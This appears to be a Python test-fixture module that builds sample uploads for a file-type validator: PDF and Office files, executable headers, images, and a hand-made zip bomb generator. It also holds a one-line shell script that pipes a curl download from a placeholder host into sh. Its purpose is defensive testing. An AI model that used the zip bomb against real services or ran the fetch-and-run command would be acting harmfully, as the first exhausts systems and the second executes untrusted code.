"""File contents of each kind an upload may claim or hide: PDF, images, executables, scripts,
archives."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from functools import cache

from PIL import Image

MB = 1024 * 1024

GB = 1024 * MB

PDF_BYTES = (
    b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
    b"2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n"
    b"trailer << /Root 1 0 R >>\n%%EOF\n"
)

ELF_BYTES = b"\x7fELF\x02\x01\x01\x00" + bytes(8) + b"\x02\x00\x3e\x00" + bytes(200)

# A DOS header whose e_lfanew points at a PE signature, as every Windows program has.
PE_BYTES = b"MZ\x90\x00" + bytes(56) + struct.pack("<I", 64) + b"PE\x00\x00\x64\x86" + bytes(200)

MACHO_BYTES = b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + bytes(200)

SCRIPT_BYTES = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"


def office_zip(kind: str, extra: dict[str, bytes] | None = None) -> bytes:
    """A small Office Open XML file: the parts Word, Excel and PowerPoint look for first."""
    main = {"docx": "word/document.xml", "xlsx": "xl/workbook.xml", "pptx": "ppt/presentation.xml"}[kind]
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        archive.writestr("_rels/.rels", '<?xml version="1.0"?><Relationships/>')
        archive.writestr(main, '<?xml version="1.0"?><document>Quarterly report</document>')
        for name, data in (extra or {}).items():
            archive.writestr(name, data)
    return out.getvalue()


def image(kind: str) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (8, 8), (200, 30, 30)).save(out, format=kind)
    return out.getvalue()


def plain_zip(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


SEGMENT_BYTES = 64 * MB


@cache
def _zero_segment() -> bytes:
    """64 MiB of zeros, deflated and ended by a full flush: byte aligned and with no reference
    behind it, so the segment repeated n times is the deflate stream of n * 64 MiB of zeros."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    return compressor.compress(bytes(SEGMENT_BYTES)) + compressor.flush(zlib.Z_FULL_FLUSH)


@cache
def _zero_crc(segments: int) -> int:
    crc = 0
    block = bytes(16 * MB)
    for _ in range(segments * (SEGMENT_BYTES // len(block))):
        crc = zlib.crc32(block, crc)
    return crc


def zip_bomb(bomb_member: str, unpacked: int, others: dict[str, bytes] | None = None) -> bytes:
    """A real zip bomb: `bomb_member` inflates to `unpacked` zero bytes (a multiple of 64 MiB,
    under 4 GiB) from about a thousandth of that, next to small ordinary members. Written by
    hand because deflating gigabytes here would take seconds; `unzip -t` finds it sound."""
    assert unpacked % SEGMENT_BYTES == 0 and unpacked < 4 * GB
    segments = unpacked // SEGMENT_BYTES
    entries: list[tuple[str, int, bytes, int, int]] = []  # name, method, data, crc, unpacked size
    for name, data in (others or {}).items():
        entries.append((name, 0, data, zlib.crc32(data), len(data)))
    entries.append((bomb_member, 8, _zero_segment() * segments + b"\x03\x00", _zero_crc(segments), unpacked))

    out = io.BytesIO()
    central = io.BytesIO()
    for name, method, data, crc, size in entries:
        offset = out.tell()
        encoded = name.encode()
        fields = (20, 0, method, 0, 0x21, crc, len(data), size, len(encoded))
        out.write(struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", *fields, 0) + encoded + data)
        central.write(struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, *fields, 0, 0, 0, 0, 0, offset) + encoded)
    directory = central.getvalue()
    start = out.tell()
    out.write(directory)
    out.write(struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(entries), len(entries), len(directory), start, 0))
    return out.getvalue()


CONTENT_TYPES = {"[Content_Types].xml": b'<?xml version="1.0"?><Types/>'}
